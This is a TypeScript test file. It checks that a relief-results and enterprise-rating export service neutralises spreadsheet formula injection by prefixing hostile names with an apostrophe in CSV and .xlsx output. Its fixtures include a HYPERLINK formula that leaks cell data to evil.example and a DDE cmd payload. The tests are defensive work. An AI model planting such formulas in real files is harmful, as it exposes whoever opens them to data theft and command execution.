// Exports cannot attack their reader: text that a spreadsheet would run (=HYPERLINK, +cmd|, @SUM)
// is written with an apostrophe in front, in CSV and .xlsx, for every role; numbers stay numbers.
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { writeCsv } from '../../src/engine/table/write-csv.ts';
import { writeXlsx } from '../../src/engine/table/write-xlsx.ts';
import { ratingCsvRecords, ratingSheets } from '../../src/methods/hq-star-rating/output.ts';
import { seedReliefDemo } from '../../src/server/demo/relief-setup.ts';
import type { ApiApp } from '../../src/server/env.ts';
import { rateUploadedBatch } from '../../src/server/hq-batch-input.ts';
import type { Actor } from '../../src/workflow/actor.ts';
import { describeEachDatabase } from '../support/databases.ts';
import { seedAccount, signIn, testApp } from './support.ts';

const LINK = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看详情")';
const COMMAND = "+cmd|' /C calc'!A0";
const SUM = '@SUM(1+1)';

async function firstSheetValues(bytes: Uint8Array): Promise<unknown[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
  const values: unknown[] = [];
  workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
  return values;
}

describeEachDatabase('relief results export with hostile names', (getDb) => {
  let app: ApiApp;
  const cookies: string[] = [];

  beforeAll(async () => {
    const db = getDb();
    app = testApp(db);
    const specs: Omit<Actor, 'accountId'>[] = [
      { role: 'relief_office', office: 'medical_insurance', displayName: '市医疗保障局' },
      { role: 'relief_office', office: 'civil_affairs', displayName: '市民政局' },
      { role: 'relief_office', office: 'charity_federation', displayName: '市慈善总会' },
      {
        role: 'relief_township',
        jurisdiction: '文成县',
        township: '大峃镇',
        displayName: '大峃镇',
      },
    ];
    const actors: Actor[] = [];
    for (const spec of specs) {
      const account = await seedAccount(db, { ...spec } as never);
      cookies.push(await signIn(app, account));
      actors.push({ ...spec, accountId: account.id });
    }
    expect(await seedReliefDemo(db, actors, '2026-11-20')).toBe(true);
    // Heads' names as a person could have typed them in the family import.
    const heads = [LINK, COMMAND, SUM];
    for (const name of heads) {
      await db.execute(sql`
        update relief_member set name = ${name}
        where id = (select m.id from relief_member m join relief_family f on f.id = m.family_id
                    where m.is_head and f.township = '大峃镇' and left(m.name, 1) not in ('=', '+', '@')
                    order by f.family_code limit 1)`);
    }
  });

  it('writes each hostile name with an apostrophe, for every role, in CSV and .xlsx', async () => {
    for (const cookie of cookies) {
      const csv = await app.request('/api/relief/years/2026/results.csv', { headers: { cookie } });
      expect(csv.status).toBe(200);
      const text = await csv.text();
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&B2,""点击查看详情"")"`);
      expect(text).toContain(`'${COMMAND}`);
      expect(text).toContain(`'${SUM}`);
      for (const line of text.split('\r\n')) expect(line).not.toMatch(/(^|,)"?[=+@]/);
      const xlsx = await app.request('/api/relief/years/2026/results.xlsx', {
        headers: { cookie },
      });
      expect(xlsx.status).toBe(200);
      const values = await firstSheetValues(new Uint8Array(await xlsx.arrayBuffer()));
      expect(values).toContain(`'${LINK}`);
      expect(values).toContain(`'${COMMAND}`);
      expect(values.filter((v) => typeof v === 'string' && /^[=+@]/.test(v))).toEqual([]);
      expect(values.some((v) => typeof v === 'number')).toBe(true);
    }
  });
});

describe('HQ rating export with hostile names', () => {
  it('neutralises names in the CSV and the workbook, and keeps the scores numbers', async () => {
    const columns =
      'uscc,name,county,revenue_2y,contribution_2y,rd_2y,pension_payers,tax_filers,top500,listings_3y';
    const csv = [
      columns,
      `91330300MA07YARR9W,"${LINK.replaceAll('"', '""')}",鹿城区,10,5,100,90,100,,0`,
      `91330300MA0FXMLK8K,${COMMAND},瑞安市,8,4,100,90,100,world,2`,
      `91330300MA0PX1FD4Q,${SUM},乐清市,2,1.1,100,90,100,private,1`,
    ].join('\r\n');
    const file = new File([csv], 'batch.csv');
    const { rating, synthetic } = await rateUploadedBatch(
      { kind: 'file', file },
      { date: '2026-03-01', year: 2025 },
    );
    const options = { synthetic, lang: 'zh' as const };
    const { columns: specs, records } = ratingCsvRecords(rating, options);
    const out = writeCsv(specs, records);
    expect(out).toContain(`"'=HYPERLINK(`);
    expect(out).toContain(`'${COMMAND}`);
    expect(out).toContain(`'${SUM}`);
    const values = await firstSheetValues(await writeXlsx(ratingSheets(rating, options)));
    expect(values).toContain(`'${LINK}`);
    expect(values.some((v) => typeof v === 'number')).toBe(true);
  });
});
